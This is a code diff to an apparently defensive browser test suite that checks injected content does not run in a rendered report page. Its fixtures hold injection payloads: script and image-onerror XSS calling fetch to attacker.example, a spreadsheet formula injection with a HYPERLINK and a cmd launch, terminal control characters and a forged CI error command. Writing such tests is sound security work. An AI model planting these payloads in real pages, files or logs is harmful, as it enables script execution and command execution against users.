@@ -22,7 +22,7 @@ from tieout.regulator import CheckOptions
 ACTS = "window.pwned=1;alert(1);fetch('http://attacker.example/')"
 IMAGE = f'<img src="http://attacker.example/a.png" onerror="{ACTS}"/>'
 SCRIPT = f'"><script>{ACTS}</script>'
-FORMULA = "=HYPERLINK(\"http://attacker.example/\";\"here\")+cmd|' /C calc'!A0"
+FORMULA = '=HYPERLINK("http://attacker.example/";"here")+cmd|\' /C calc\'!A0'
 ANSI = "\u009b31m\u202e"  # what XML allows of the controls that a terminal acts on
 COMMAND = "::error::forged"
 TEXT = f"{FORMULA} {ANSI} {COMMAND} {SCRIPT}"
@@ -133,8 +133,7 @@ def test_nothing_runs_in_the_page_for_people(browser: str, run: CheckRun, tmp_pa
         page = watched.page
         document = page.frame_locator("iframe[name=page-1]")
         document.locator("#f-22-11").wait_for()
-        for group in page.locator("details:not([open]) > summary").all():
-            group.click()
+        page.locator("details").evaluate_all("every => every.forEach(each => { each.open = true })")
         document.get_by_text("over", exact=True).click()
         for words in ("here", "there", "away"):
             document.get_by_text(words, exact=True).first.click(force=True)
